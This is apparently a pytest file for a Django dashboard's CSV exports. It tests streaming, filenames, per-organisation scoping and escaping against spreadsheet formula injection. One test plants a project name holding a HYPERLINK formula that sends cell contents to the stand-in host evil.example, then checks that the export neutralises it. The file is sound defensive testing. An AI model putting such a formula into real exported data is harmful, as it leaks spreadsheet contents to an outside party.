"""The dashboard's CSV exports (decisions.dashboard_views.DashboardExportView): one per panel,
streamed, for the page's filters, with the page's numbers, escaped against formula injection
and scoped like the page."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from decisions import dashboard_views
from decisions.dashboard_views import EXPORT_TABLES, cell
from portfolio.models import Project, Stage
from tests.decisions.test_dashboard_views import DASHBOARD, build_portfolio
from tests.factories import OrganisationFactory, member


@pytest.fixture
def boss(other_org):
    return member(other_org, "executive", email="boss@globex.test", full_name="Xena Boss")


@pytest.fixture
def firm(org, other_org, pm, executive, outsider, boss):
    ours = build_portfolio(org, 10, pm=pm, decider=executive, label="Acme")
    theirs = build_portfolio(other_org, 10, pm=outsider, decider=boss, label="Globex secret")
    return ours, theirs


def export(client, table: str, params=None):
    response = client.get(
        reverse("decisions:dashboard-export", kwargs={"table": table}), params or {}
    )
    assert response.status_code == 200, response.status_code
    assert response.streaming
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    return response, list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


@pytest.mark.parametrize("table", EXPORT_TABLES)
def test_each_table_streams_as_a_named_csv(client, firm, partner, table):
    client.force_login(partner)
    response, rows = export(client, table)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    disposition = response["Content-Disposition"]
    assert disposition.startswith('attachment; filename="gatehouse-')
    assert f"-{table}-all-" in disposition and disposition.endswith('.csv"')
    assert len(rows) >= 2 and all(len(row) == len(rows[0]) for row in rows)


def test_the_filename_names_the_period_and_organisation(client, firm, partner, org):
    client.force_login(partner)
    response, _ = export(client, "funnel", {"organisation": org.pk, "period": "12m"})
    assert 'filename="gatehouse-funnel-12m-acme-logistics-' in response["Content-Disposition"]


def test_an_unknown_table_is_a_404(client, partner):
    client.force_login(partner)
    assert client.get("/decisions/dashboard/export/secrets.csv").status_code == 404


def test_anonymous_is_sent_to_login(client):
    response = client.get("/decisions/dashboard/export/funnel.csv")
    assert response.status_code == 302 and "/accounts/login/" in response["Location"]


def test_every_panel_has_a_download_link_with_the_filters(client, firm, partner, org):
    client.force_login(partner)
    html = client.get(DASHBOARD, {"organisation": org.pk, "stage": "poc"}).content.decode()
    for table in EXPORT_TABLES:
        url = f"/decisions/dashboard/export/{table}.csv?organisation={org.pk}&amp;stage=poc"
        assert f'href="{url}" download' in html, table


# --- the same numbers as the screen -------------------------------------------------------------


def _shown(figure) -> str:
    return "" if figure.value is None else figure.shown


def test_csv_numbers_are_the_page_numbers(client, firm, partner, org):
    client.force_login(partner)
    params = {"organisation": org.pk}
    page = client.get(DASHBOARD, params)
    summary = page.context["summary"]
    html = page.content.decode()

    _, funnel = export(client, "funnel", params)
    f = summary.funnel
    expected = [
        f.started,
        f.reached_pilot,
        f.reached_production,
        *f.killed,
        *f.in_flight,
        f.poc_to_pilot,
        f.pilot_to_production,
        f.graduation_rate,
    ]
    assert [row[:2] for row in funnel[1:]] == [[x.label, _shown(x)] for x in expected]
    graduation = next(row for row in funnel if row[0] == "Graduation rate")
    assert graduation[1] == "25" and graduation[2] == "%"
    assert graduation[3].endswith(f.graduation_rate.link)
    assert f">{graduation[1]}%</a>" in html  # the page shows the same number

    _, trend = export(client, "trend", params)
    assert [row[:5] for row in trend[1:]] == [
        [
            r.period.label,
            _shown(r.started),
            _shown(r.reached_production),
            _shown(r.graduation_rate),
            _shown(r.days_to_decision),
        ]
        for r in summary.trend
    ]

    _, flow = export(client, "flow", params)
    assert [row[2] for row in flow[1:4]] == [_shown(x) for x in summary.flow.in_progress]
    assert [row[2] for row in flow[4:7]] == [_shown(x) for x in summary.flow.days_in_stage]

    _, graveyard = export(client, "graveyard", params)
    g = summary.graveyard
    assert graveyard[1][:2] == ["Killed", _shown(g.killed)]
    assert graveyard[2][:2] == ["Kill reason: No production owner", "2"]

    _, goalposts = export(client, "goalposts", params)
    gp = summary.goalposts
    assert [row[1] for row in goalposts[1:]] == [
        _shown(x) for x in (gp.projects, gp.amendments, gp.lowered, gp.raised)
    ]

    _, accountability = export(client, "accountability", params)
    assert [row[0] for row in accountability[1:]] == [
        r.person.full_name for r in summary.accountability
    ]
    for row, person in zip(accountability[1:], summary.accountability, strict=True):
        assert row[1:] == [
            _shown(x)
            for x in (
                person.due,
                person.on_time,
                person.late,
                person.lapsed,
                person.days_late,
                person.extensions,
                person.killed_by_policy,
            )
        ]

    _, organisations = export(client, "organisations")
    everything = client.get(DASHBOARD).context["summary"]
    assert organisations[0][1:6] == [label for _, label in Stage.choices]
    for row, org_row in zip(organisations[1:], everything.organisations, strict=True):
        assert row == [
            org_row.organisation.name,
            *(_shown(x) for x in org_row.by_stage),
            _shown(org_row.started),
            _shown(org_row.graduation_rate),
        ]


def test_the_attention_export_lists_every_project_each_count_counts(client, firm, executive):
    client.force_login(executive)
    attention = client.get(DASHBOARD).context["summary"].attention
    _, rows = export(client, "attention")
    assert rows[0][:3] == ["List", "Project", "Project ID"]
    for key in dashboard_views.ATTENTION_LISTS:
        listed = getattr(attention, key)
        listed_rows = [row for row in rows[1:] if row[0] == listed.figure.label]
        assert len(listed_rows) == listed.figure.value, key
        # The first rows are the page's, in the page's order.
        assert [int(row[2]) for row in listed_rows[: len(listed.rows)]] == [
            p.pk for p in listed.rows
        ]
    assert any(row[0] == "Overdue decisions" for row in rows[1:])


# --- formula injection ----------------------------------------------------------------------------


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_that_a_spreadsheet_would_run_is_kept_text(start):
    assert cell(f"{start}SUM(A1:A9)") == f"'{start}SUM(A1:A9)"


def test_plain_cells_are_left_alone():
    assert cell("Invoice triage") == "Invoice triage"
    assert cell(12) == 12 and cell(None) == "" and cell(True) == "yes"
    assert cell("") == ""


def test_names_beginning_like_a_formula_come_out_escaped(client, partner, pm, executive):
    evil_org = OrganisationFactory(name="@Evil Holdings", slug="evil-holdings")
    decider = member(evil_org, "executive", email="eve@evil.test", full_name="-Eve Minus")
    build_portfolio(evil_org, 5, pm=pm, decider=decider, label="Evil")
    # An overdue project whose name is a formula: it shows up in the attention lists.
    Project.objects.filter(organisation=evil_org, name="Evil project 0").unaudited_update(
        name='=HYPERLINK("https://evil.example/?"&A1,"Click")'
    )
    client.force_login(partner)
    _, rows = export(client, "attention")
    names = {row[1] for row in rows[1:]}
    assert '\'=HYPERLINK("https://evil.example/?"&A1,"Click")' in names
    assert not any(name.startswith("=") for name in names)
    assert all(not row[3].startswith("@") for row in rows[1:])
    assert "'@Evil Holdings" in {row[3] for row in rows[1:]}
    _, organisations = export(client, "organisations")
    assert "'@Evil Holdings" in {row[0] for row in organisations}
    _, accountability = export(client, "accountability")
    assert "'-Eve Minus" in {row[0] for row in accountability}


# --- scoping ----------------------------------------------------------------------------------------


@pytest.mark.parametrize("table", EXPORT_TABLES)
def test_a_member_never_exports_another_organisations_rows(client, firm, executive, table):
    client.force_login(executive)
    response = client.get(reverse("decisions:dashboard-export", kwargs={"table": table}))
    text = b"".join(response.streaming_content).decode()
    for foreign in ("Globex", "globex", "Xena Boss", "Olga Outsider", "globex.test"):
        assert foreign not in text, (table, foreign)


def test_a_member_exports_only_their_numbers_and_a_partner_all(client, firm, executive, partner):
    client.force_login(executive)
    _, funnel = export(client, "funnel")
    assert funnel[1][:2] == ["Started PoC", "8"]
    _, organisations = export(client, "organisations")
    assert [row[0] for row in organisations[1:]] == ["Acme Logistics"]
    client.force_login(partner)
    _, funnel = export(client, "funnel")
    assert funnel[1][:2] == ["Started PoC", "16"]
    _, organisations = export(client, "organisations")
    assert [row[0] for row in organisations[1:]] == ["Acme Logistics", "Globex Retail"]
    _, attention = export(client, "attention")
    assert any(row[1].startswith("Globex secret") for row in attention[1:])


def test_a_foreign_organisation_in_the_query_is_ignored(client, firm, executive, other_org):
    client.force_login(executive)
    _, funnel = export(client, "funnel", {"organisation": other_org.pk})
    assert funnel[1][:2] == ["Started PoC", "8"]  # reset to their own organisations
